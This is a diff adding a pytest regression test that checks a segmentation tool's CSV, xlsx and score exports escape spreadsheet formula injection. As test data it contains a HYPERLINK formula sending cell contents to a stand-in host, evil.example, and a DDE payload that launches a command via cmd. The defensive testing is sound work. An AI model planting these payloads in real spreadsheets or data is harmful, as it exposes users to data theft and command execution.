@@ -15,6 +15,7 @@ from typing import Any
 
 import numpy as np
 import pandas as pd
+import pyarrow as pa
 import pytest
 
 import segmint
@@ -227,6 +228,75 @@ def test_export_campaign_lists(cli, shop_run: Path, tmp_path: Path) -> None:
     assert r.code == 0, r.err
     assert {f.name for f in lists.iterdir()} == {files[0].name, "exports.json", "notes.txt"}
     assert json.loads((lists / "exports.json").read_text())["model_id"] == manifest["model_id"]
+
+
+def test_campaign_lists_and_scores_neutralise_spreadsheet_formulas(
+    cli, shop_csv: Path, shop_run: Path, tmp_path: Path
+) -> None:
+    """A customer id or country from the raw data that starts with = + - @ ran as a
+    formula when a marketer opened a campaign list or scored file in Excel; the xlsx
+    export even stored it as a live formula."""
+    import shutil
+
+    import pyarrow.parquet as pq
+
+    attack = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    run = tmp_path / "run"
+    shutil.copytree(shop_run, run)
+    table = pq.read_table(run / "customers.parquet")
+    frame = table.to_pandas()
+    frame.loc[0, "customer_id"] = attack
+    frame.loc[1, "country"] = "@SUM(1+1)*cmd|' /C calc'!A0"
+    frame.loc[2, "monetary"] = -12.5  # a net refund: a negative number stays a number
+    pq.write_table(
+        pa.Table.from_pandas(frame, preserve_index=False).replace_schema_metadata(
+            table.schema.metadata
+        ),
+        run / "customers.parquet",
+    )
+    r = cli("export", run, "--single-file", "--out", tmp_path / "csv")
+    assert r.code == 0, r.err
+    text = (tmp_path / "csv" / "campaign.csv").read_text()
+    lst = pd.read_csv(tmp_path / "csv" / "campaign.csv", dtype={"customer_id": str})
+    assert "'" + attack in set(lst["customer_id"])
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in set(lst["country"])
+    assert -12.5 in set(lst["monetary"]) and ",-12.5," in text
+    assert pd.api.types.is_float_dtype(lst["monetary"])
+    # a program that reads the list can have the values as they are
+    r = cli("export", run, "--single-file", "--out", tmp_path / "raw", "--no-escape-formulas")
+    assert r.code == 0, r.err
+    raw = pd.read_csv(tmp_path / "raw" / "campaign.csv", dtype={"customer_id": str})
+    assert attack in set(raw["customer_id"])
+    # xlsx: text cells, never a formula or a link (xlsxwriter's default made both)
+    r = cli("export", run, "--format", "xlsx", "--single-file", "--out", tmp_path / "x")
+    assert r.code == 0, r.err
+    with zipfile.ZipFile(tmp_path / "x" / "campaign.xlsx") as book:
+        sheet = book.read("xl/worksheets/sheet1.xml").decode()
+        strings = book.read("xl/sharedStrings.xml").decode()
+    assert "<f>" not in sheet and "<hyperlink" not in sheet
+    assert '<t>=HYPERLINK("http://evil.example/?"&amp;A1' in strings
+    # segmint score --out scored.csv: the customer id from the raw data
+    lines = pd.read_csv(shop_csv, dtype={"CustomerID": str})
+    first = lines["CustomerID"].dropna().iloc[0]
+    lines.loc[lines["CustomerID"] == first, "CustomerID"] = "-1+2"
+    lines.to_csv(tmp_path / "new.csv", index=False)
+    r = cli("score", shop_run, tmp_path / "new.csv", "--out", tmp_path / "scored.csv")
+    assert r.code == 0, r.err
+    scored = pd.read_csv(tmp_path / "scored.csv", dtype={"customer_id": str})
+    assert "'-1+2" in set(scored["customer_id"]) and "-1+2" not in set(scored["customer_id"])
+    assert pd.api.types.is_float_dtype(scored["distance"])
+    r = cli(
+        "score",
+        shop_run,
+        tmp_path / "new.csv",
+        "--out",
+        tmp_path / "raw.csv",
+        "--no-escape-formulas",
+    )
+    assert r.code == 0, r.err
+    assert "-1+2" in set(
+        pd.read_csv(tmp_path / "raw.csv", dtype={"customer_id": str})["customer_id"]
+    )
 
 
 def test_names_and_actions_from_the_command_line(cli, shop_csv: Path, tmp_path: Path) -> None:
